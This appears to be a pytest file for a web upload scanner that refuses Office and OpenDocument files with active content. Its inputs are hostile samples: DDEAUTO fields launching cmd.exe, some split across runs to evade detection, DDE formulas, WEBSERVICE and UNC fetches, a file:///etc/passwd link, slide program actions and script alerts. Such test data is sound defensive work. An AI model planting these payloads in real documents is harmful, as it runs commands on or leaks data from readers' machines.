"""Office documents that would do something by themselves once they are opened."""

from pathlib import Path

import pytest
import wagtail.contrib.redirects

from foundation.uploads.office.active_content import FETCHES, MACROS
from foundation.uploads.office.package import EXCEL, OPEN_DOCUMENT, WORD
from tests.foundation.uploads.files import (
    WORD_NAMES,
    Parts,
    document,
    inspected,
    package,
    refusal,
    slides,
    workbook,
)

BEGIN, SEPARATE, END = (
    f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end")
)
LINK = "http://www.w3.org/1999/xlink"
NAMES = f"xmlns:o='o' xmlns:t='t' xmlns:d='d' xmlns:b='b' xmlns:xlink='{LINK}'"


def saying(*instructions: str, element: str = "instrText") -> str:
    return "".join(f"<w:r><w:{element}>{one}</w:{element}></w:r>" for one in instructions)


def word(body: str) -> bytes:
    names = f"{WORD_NAMES} xmlns:v='v'"
    whole = f"<w:document {names}><w:body><w:p>{body}</w:p></w:body></w:document>"
    return package(WORD, whole)


def open_text(content: str, more: Parts | None = None) -> bytes:
    return package(OPEN_DOCUMENT, f"<o:d {NAMES}>{content}</o:d>", more)


@pytest.mark.parametrize(
    "body",
    [
        saying('DDEAUTO c:\\cmd.exe "/k calc"'),
        BEGIN + saying("D", "DEAUTO c:\\cmd.exe") + END,
        BEGIN + saying(" dde", "auto c:\\cmd.exe") + SEPARATE + END,
        BEGIN + saying("DD") + saying("EAUTO c:\\cmd.exe", element="t") + END,
        BEGIN + saying("DDEAUTO x", element="delInstrText") + END,
        BEGIN + saying("DDE", "AUTO x"),
        BEGIN + saying(" " * 150, '"' * 300, "DDEAUTO x") + END,
        BEGIN + BEGIN + saying("QUOTE 68 68 69") + END + saying(" c:\\cmd.exe") + END,
        BEGIN + saying("D") + BEGIN + saying("QUOTE 68") + END + saying("EAUTO x") + END,
        BEGIN + saying("IF 1 = 1 ") + BEGIN + saying("DDEAUTO x") + END + END,
        "<w:fldSimple w:instr='DDEAUTO c:\\cmd.exe \"/k calc\"'><w:r/></w:fldSimple>",
        "<w:fldSimple w:instr='INCLUDEPICTURE \"http://x.example/p.png\" \\d'/>",
        "<w:fldSimple w:instr=' LINK Excel.Sheet.8 \\\\x\\y'/>",
        "<v:imagedata src='http://x.example/p.png'/>",
        "<v:fill src='\\\\x.example\\p.png'/>",
    ],
    ids=range(15),
)
def test_a_field_that_fetches_or_starts_something_is_refused(body: str) -> None:
    assert refusal("a.docx", word(body)) == FETCHES


@pytest.mark.parametrize(
    "body",
    [
        BEGIN + saying("HYPERLINK ", '"https://x.example/hidden"') + SEPARATE + END,
        BEGIN + saying(" IF ") + BEGIN + saying("PAGE") + END + saying(" = 1 a b") + END,
        BEGIN + saying(" =") + BEGIN + saying("PAGE") + END + saying("+1") + END,
        BEGIN + saying("TOC \\o") + SEPARATE + BEGIN + saying("PAGEREF _a") + END + END,
        BEGIN + saying("PAGE") + SEPARATE + saying("DDE is an old word.", element="t") + END,
        "<w:fldSimple w:instr=' PAGE '><w:r><w:t>1</w:t></w:r></w:fldSimple>",
    ],
    ids=range(6),
)
def test_ordinary_fields_are_taken(body: str) -> None:
    inspected("a.docx", word(body))


CARRIED_OUT = [
    'WEBSERVICE("http://x.example/"&amp;A1)',
    '_xlfn.WEBSERVICE ("http://x.example/")',
    "MAP(A1:A3,_xleta.WEBSERVICE)",
    "cmd|'/c calc'!A0",
    "'cmd'|calc!A0",
    'WEB<!-- -->SERVICE("x")',
    '_xlfn.IMAGE("http://x.example/p.png")',
    "'https://x.example/[a.xlsx]b'!A1",
    "'\\\\x.example\\[a.xlsx]b'!A1",
    'RTD("x",,"y")',
]


@pytest.mark.parametrize("formula", CARRIED_OUT)
def test_a_formula_that_reaches_out_is_refused_wherever_it_stands(formula: str) -> None:
    assert refusal("a.xlsx", workbook(f"<row><c><f>{formula}</f><v>1</v></c></row>")) == FETCHES
    for element in ("formula", "formula1", "formula2", "xm:f", "definedName"):
        part = f"<workbook xmlns:xm='x'><{element}>{formula}</{element}></workbook>"
        assert refusal("a.xlsx", package(EXCEL, part)) == FETCHES


@pytest.mark.parametrize(
    "formula",
    [
        "SUM(A1:A9)",
        "'It''s mine'!A1",
        "Table1[In|out]+1",
        'HYPERLINK("https://x.example/")',
        '"WEBSERVICE(" &amp; "a|b!c"',
        "Image!A1",
    ],
)
def test_ordinary_formulas_are_taken(formula: str) -> None:
    inspected("a.xlsx", workbook(f"<row><c><f>{formula}</f><v>1</v></c></row>"))


@pytest.mark.parametrize(
    "content",
    [
        "<t:p><d:image xlink:href='http://x.example/p.png'/></t:p>",
        "<d:image xlink:href='file:///etc/passwd'/>",
        "<d:image xlink:href='//x.example/p.png'/>",
        "<d:image xlink:href='../p.png'/>",
        "<d:image xmlns:y='y' y:href='\\\\x.example\\p.png'/>",
        "<t:section><t:section-source xlink:href='http://x.example/d.odt'/></t:section>",
        "<d:object xlink:href='https://x.example/'/>",
        "<o:dde-source o:dde-application='cmd'/>",
        "<b:cell b:formula=\"of:=WEBSERVICE('http://x.example/')\"/>",
        "<b:cell b:formula=\"of:='file:///x.ods'#$a.A1\"/>",
    ],
)
def test_an_open_document_that_loads_from_elsewhere_is_refused(content: str) -> None:
    assert refusal("a.odt", open_text(content)) == FETCHES
    if "href" in content:
        styles: Parts = {"styles.xml": f"<o:s {NAMES}>{content}</o:s>"}
        assert refusal("a.odt", open_text("", styles)) == FETCHES


@pytest.mark.parametrize(
    "content",
    [
        "<t:a xlink:href='vnd.sun.star.script:a.b?language=Basic'>x</t:a>",
        "<s:event-listener xmlns:s='s' xlink:href='x'/>",
        "<o:script>x</o:script>",
    ],
)
def test_an_open_document_that_runs_something_is_refused(content: str) -> None:
    assert refusal("a.odt", open_text(content)) == MACROS


def test_an_open_document_with_links_and_pictures_of_its_own_is_taken() -> None:
    content = (
        "<t:p><t:a xlink:href='https://x.example/'>Here</t:a> <t:a xlink:href='mailto:m@x.example'>"
        "m</t:a><d:image xlink:href='Pictures/1.png'/><d:object xlink:href='./Object 1'/></t:p>"
        "<c:chart xmlns:c='c' xlink:href='..'/>"
    )
    assert "m@x.example" in inspected("a.odt", open_text(content)).text


def test_a_slide_that_starts_a_program_or_waits_for_the_pointer_is_refused() -> None:
    program = "<a:hlinkClick action='ppaction://program?x.exe'/>"
    assert refusal("a.pptx", slides(program)) == MACROS
    assert refusal("a.pptx", slides("<a:hlinkMouseOver id='r1'/>")) == FETCHES
    inspected("a.pptx", slides("<a:hlinkClick action='ppaction://hlinksldjump'/>"))


def test_a_drawing_in_a_document_may_not_load_or_run_anything() -> None:
    for words, drawn in (
        (FETCHES, "<image href='https://x.example/p.png'/>"),
        (MACROS, "<script>alert(1)</script>"),
    ):
        more: Parts = {"word/media/a.svg": f"<svg>{drawn}</svg>"}
        assert refusal("a.docx", document(more=more)) == words


def test_a_part_named_by_an_address_is_refused_whatever_it_is_called() -> None:
    link = '<R><r Type="x/image" TargetMode="Internal" Target="http://x.example/p.png"/></R>'
    more: Parts = {"word/_rels/document.xml.rels": link}
    assert refusal("a.docx", document(more=more)) == FETCHES
    link = '<R><r Type="x/hyperlink" TargetMode="External" Target="javascript:alert(1)"/></R>'
    assert refusal("a.docx", document(more={"word/_rels/a.rels": link})) == MACROS


def test_a_workbook_that_excel_wrote_is_taken() -> None:
    folder = Path(wagtail.contrib.redirects.__file__).parent
    inspected("a.xlsx", (folder / "tests/files/example.xlsx").read_bytes())
